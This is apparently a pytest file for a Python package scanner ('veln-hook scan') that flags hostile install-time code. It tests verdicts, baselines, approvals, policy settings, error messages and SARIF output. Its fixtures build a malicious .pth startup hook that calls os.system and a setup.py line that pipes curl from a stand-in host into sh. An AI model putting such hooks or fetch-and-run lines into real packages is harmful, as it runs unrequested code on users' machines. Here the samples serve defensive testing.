"""``veln-hook scan`` in this process: real archives, a real worker, a real store and policy."""

from __future__ import annotations

import hashlib
import json
import os
from datetime import datetime, timezone

import pytest

from support.builders import make_sdist, make_tree, make_wheel
from veln_hook.model import Approval
from veln_hook.store import open_store

EVIL = {"acme/__init__.py": "VERSION = 1\n", "acme_init.pth": "import os; os.system('id')\n"}

pytestmark = pytest.mark.usefixtures("own_home")


@pytest.fixture
def evil(tmp_path):
    return make_wheel(tmp_path, "acme", "2.0", EVIL)


@pytest.fixture
def good(tmp_path):
    return make_wheel(tmp_path, "acme", "1.0")


def test_each_path_has_a_verdict_and_its_findings(run, evil, good, tmp_path):
    status, out, err = run("scan", evil, good)
    assert (status, err) == (77, "")
    lines = out.splitlines()
    assert lines[0].startswith(f"HOLD  {evil}  ")
    (place,) = [line for line in lines if "acme_init.pth:1" in line and "start-up-code" in line]
    assert "  high/high  start-up-code  " in place
    assert "runs whenever Python starts" in place
    assert lines[lines.index(place) + 1] == "          import os; os.system('id')"
    assert f"ALLOW {good}  no findings" in out
    assert "approve  veln-hook approve acme==2.0" in out
    status, out, _ = run("scan", "-q", good)
    assert (status, out) == (0, "")


def test_a_directory_and_an_sdist_are_judged(run, tmp_path):
    tree = make_tree(
        tmp_path, "acme", "1.0", setup_py="import os\nos.system('curl -s https://x.test/i | sh')\n"
    )
    sdist = make_sdist(tmp_path, "acme", "1.0")
    status, out, _ = run("scan", tree, sdist)
    assert status == 77
    assert f"HOLD  {tree}  " in out
    assert "setup.py:2" in out
    assert f"{sdist}  " in out


def test_nothing_is_remembered_or_logged(run, evil):
    run("scan", evil)
    store = open_store()
    try:
        assert list(store.log()) == []
        assert store.observations("acme") == []
        sha256 = hashlib.sha256(evil.read_bytes()).hexdigest()
        assert store.archive_memories([sha256]) == []
        assert store.scan(sha256) is None
    finally:
        store.close()


def test_what_the_baseline_does_too_does_not_count(run, evil, tmp_path):
    before = make_wheel(tmp_path, "acme", "1.9", EVIL)
    status, out, _ = run("scan", evil, "--baseline", before)
    assert status == 0
    assert f"0 new against {before}" in out
    told = json.loads(run("scan", evil, "--baseline", before, "--json")[1])
    (result,) = told["results"]
    assert (result["verdict"], result["baseline"]) == ("allow", str(before))
    assert {finding["new"] for finding in result["findings"]} == {False}
    assert "start-up-code" in run("scan", evil, "--baseline", before, "--all")[1]


def test_what_the_baseline_lacks_is_new(run, evil, good):
    (result,) = json.loads(run("scan", evil, "--baseline", good, "--json")[1])["results"]
    assert result["verdict"] == "hold"
    (finding,) = [one for one in result["findings"] if one["signal"] == "start-up-code"]
    assert (finding["new"], finding["reach"], finding["line"]) == (True, "startup", 1)
    assert finding["evidence"] == "import os; os.system('id')"
    (result,) = json.loads(run("scan", evil, "--baseline", "none", "--json")[1])["results"]
    assert result["baseline"] is None


def test_policy_exceptions_and_approvals_count(run, evil, tmp_path):
    sha256 = hashlib.sha256(evil.read_bytes()).hexdigest()
    store = open_store()
    store.add_approval(
        Approval("acme", "2.0", evil.name, sha256, "seen", "ada@host", datetime.now(timezone.utc))
    )
    store.close()
    status, out, _ = run("scan", evil)
    assert status == 0
    assert "passes by approval 1 of ada@host" in out
    policy = tmp_path / "config" / "veln-hook" / "policy.toml"
    policy.parent.mkdir(parents=True, exist_ok=True)
    policy.write_text('[approvals]\naccept = "none"\n[decisions]\nhigh = "block"\n')
    assert run("scan", evil)[0] == 1


@pytest.mark.parametrize(
    ("argv", "told"),
    [
        (["scan"], "PATH"),
        (["scan", "absent.whl"], "there is no such file"),
        (["scan", "empty.whl"], "is empty"),
        (["scan", "pipe.whl"], "not a regular file"),
        (["scan", "empty.whl", "--baseline", "nothing-like-it"], "neither a file"),
        (["scan", ".", "--baseline", "1.0"], "project can't be told"),
        (["scan", ".", "--baseline", "empty.whl"], "is empty"),
        (["scan", ".", "--baseline", "text.whl"], "can't be compared with"),
        (["scan", ".", "--json", "--sarif"], "both want standard output"),
    ],
)
def test_a_user_s_mistake_is_told_in_words(run, tmp_path, argv, told):
    (tmp_path / "empty.whl").touch()
    (tmp_path / "text.whl").write_text("nothing of the kind")
    os.mkfifo(tmp_path / "pipe.whl")
    status, out, err = run(*argv)
    assert status == 2
    assert err.startswith("error: ") or told in out
    assert told in err + out
    assert "Traceback" not in err


def test_the_others_are_told_where_one_is_missing(run, evil, good):
    status, out, err = run("scan", "absent.whl", good)
    assert status == 2
    assert "no findings" in out
    assert "absent.whl" in err
    told = json.loads(run("scan", "absent.whl", evil, "--json")[1])
    assert [error["slug"] for error in told["errors"]] == ["usage"]
    assert [result["verdict"] for result in told["results"]] == ["hold"]


def test_what_is_no_archive_is_held(run, tmp_path):
    (tmp_path / "acme-1.0.tar.gz").write_text("nothing of the kind")
    status, out, _ = run("scan", "acme-1.0.tar.gz")
    assert status == 77
    assert "neither a zip nor a tar" in out


def test_names_from_an_archive_can_not_drive_a_terminal(run, tmp_path):
    wheel = make_wheel(tmp_path, "acme", "2.0", {"\x1b[31mred\u202e/x.pth": "x", **EVIL})
    _, out, _ = run("scan", wheel, "--all")
    assert "\x1b" not in out
    assert "\u202e" not in out


def test_sarif_is_all_there_is_on_standard_output(run, evil):
    status, out, err = run("scan", evil, "absent.whl", "--sarif")
    assert status == 2
    assert "absent.whl" in err
    log = json.loads(out)
    assert log["version"] == "2.1.0"
    (tool,) = log["runs"]
    assert tool["invocations"][0]["executionSuccessful"] is False
    assert any(one["ruleId"] == "start-up-code" and one["level"] == "error" for one in tool["results"])
